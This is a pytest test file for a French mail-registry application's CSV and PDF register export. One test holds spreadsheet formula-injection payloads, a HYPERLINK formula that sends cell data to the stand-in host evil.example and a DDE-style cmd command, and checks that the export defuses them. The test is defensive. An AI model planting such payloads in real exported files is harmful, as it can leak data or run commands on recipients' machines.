"""The legal register for a period, as CSV for Excel and as a printable PDF."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from ged.bootstrap import Container
from ged.domain.model import AuditAction
from tests.builders import Builders
from tests.conftest import AuthActions
from tests.e2e.conftest import events, text
from tests.e2e.mail.conftest import Office, days_ago, register


def export(auth: AuthActions, container: Container, **args: Any) -> Any:
    query = {
        "direction": "incoming",
        "from": days_ago(container, 30).isoformat(),
        "to": container.registry.today().isoformat(),
        "format": "csv",
        **args,
    }
    return auth.client.get("/mail/export", query_string=query)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_register_lists_the_period_in_chrono_order_for_french_excel(
    office: Office, build: Builders, container: Container, auth: AuthActions
) -> None:
    old = register(
        container,
        build,
        office.registrar,
        unit_ids=(office.urba,),
        mail_date=days_ago(container, 60),
    )
    first = register(
        container,
        build,
        office.registrar,
        subject="Demande d'alignement",
        correspondent_name="جماعة الرباط",
        sender_reference="RÉF; 12",
        unit_ids=(office.urba, office.legal),
        mail_type_id=office.request_type,
        mail_date=days_ago(container, 10),
    )
    second = register(container, build, office.registrar, unit_ids=(office.legal,))
    register(container, build, office.registrar, direction="outgoing")
    auth.login("registrar")

    response = export(auth, container)

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert "filename*=UTF-8''registre-arriv%C3%A9e_" in disposition
    assert response.data.count(b"\r\n") == 3  # heading and two rows, CRLF
    rows = csv_rows(response.data)
    assert rows[0] == [
        "N° d'ordre",
        "Date",
        "Date de la lettre",
        "Correspondant",
        "Objet",
        "Référence",
        "Type",
        "Entités",
        "Statut",
        "Échéance",
    ]
    assert [r[0] for r in rows[1:]] == [first.chrono, second.chrono]
    assert old.chrono not in response.data.decode("utf-8-sig")
    assert rows[1][1] == days_ago(container, 10).isoformat()
    assert rows[1][3:9] == [
        "جماعة الرباط",
        "Demande d'alignement",
        "RÉF; 12",  # the separator inside a value is quoted, not a new column
        "Demande",
        "JUR URB",
        "Enregistré",
    ]
    assert rows[1][9]  # due date from the mail type
    assert len(events(container, AuditAction.MAIL_EXPORTED)) == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_look_like_formulas_are_neutralised(
    start: str, office: Office, build: Builders, container: Container, auth: AuthActions
) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1;"clic")'
    register(
        container,
        build,
        office.registrar,
        subject=payload,
        correspondent_name=f"{start}cmd|' /C calc'!A0",
        sender_reference=f"{start}1+1",
        unit_ids=(office.urba,),
    )
    auth.login("registrar")

    rows = csv_rows(export(auth, container).data)

    subject, correspondent, reference = rows[1][4], rows[1][3], rows[1][5]
    assert subject == "'" + payload
    assert correspondent == f"'{start}cmd|' /C calc'!A0"
    assert reference == f"'{start}1+1"


def test_pdf_register_is_landscape_with_headings_and_numbers_on_every_page(
    office: Office, build: Builders, container: Container, auth: AuthActions, tmp_path: Path
) -> None:
    chronos = [
        register(
            container,
            build,
            office.registrar,
            subject=f"Demande numéro {i} " + "avec un objet assez long pour tenir sur deux lignes",
            unit_ids=(office.urba,),
        ).chrono
        for i in range(45)
    ]
    auth.login("registrar")

    response = export(auth, container, format="pdf")

    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment; ")
    assert ".pdf" in response.headers["Content-Disposition"]
    path = tmp_path / "register.pdf"
    path.write_bytes(response.data)
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, check=True, text=True)
    pages = int(re.search(r"Pages:\s+(\d+)", info.stdout).group(1))  # type: ignore[union-attr]
    width, height = map(
        float,
        re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", info.stdout).groups(),  # type: ignore[union-attr]
    )
    assert pages >= 2
    assert width > height
    extracted = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
    ).stdout
    page_texts = extracted.split("\f")[:pages]
    for number, page in enumerate(page_texts, start=1):
        assert "N° d'ordre" in page, f"no heading on page {number}"
        assert f"Page {number} / {pages}" in page
    assert "Registre du courrier arrivée" in page_texts[0]
    assert all(chrono in extracted for chrono in chronos)


def test_export_of_an_empty_period_still_makes_a_register(
    office: Office, container: Container, auth: AuthActions, tmp_path: Path
) -> None:
    auth.login("registrar")

    pdf = export(auth, container, format="pdf")
    empty_csv = export(auth, container)

    assert pdf.status_code == empty_csv.status_code == 200
    assert len(csv_rows(empty_csv.data)) == 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"from": ""}, "Choisissez le registre"),
        ({"format": "xlsx"}, "Choisissez le registre"),
        ({"direction": "sideways"}, "Choisissez le registre"),
        ({"from": "2026-05-01", "to": "2026-04-01"}, "La date de fin précède la date de début."),
    ],
)
def test_bad_export_requests_answer_400_with_a_message(
    args: dict[str, str], message: str, office: Office, container: Container, auth: AuthActions
) -> None:
    auth.login("registrar")

    response = export(auth, container, **args)

    assert response.status_code == 400
    assert message in text(response)
    assert events(container, AuditAction.MAIL_EXPORTED) == []


def test_export_contains_only_what_the_person_may_see(
    office: Office, build: Builders, container: Container, auth: AuthActions
) -> None:
    mine = register(container, build, office.registrar, unit_ids=(office.urba,))
    other = register(container, build, office.registrar, unit_ids=(office.legal,))
    auth.login("agent")

    content = export(auth, container).data.decode("utf-8-sig")

    assert mine.chrono in content
    assert other.chrono not in content


def test_list_page_offers_the_export_form_for_the_filtered_period(
    office: Office, container: Container, auth: AuthActions
) -> None:
    auth.login("registrar")

    html = auth.client.get("/mail/?direction=outgoing&from=2026-01-01").get_data(as_text=True)

    form = html[html.index('action="/mail/export"') :].split("</form>", 1)[0]
    assert '<option selected value="outgoing">' in form
    assert 'name="from" required type="date" value="2026-01-01"' in form
    assert 'value="pdf"' in form
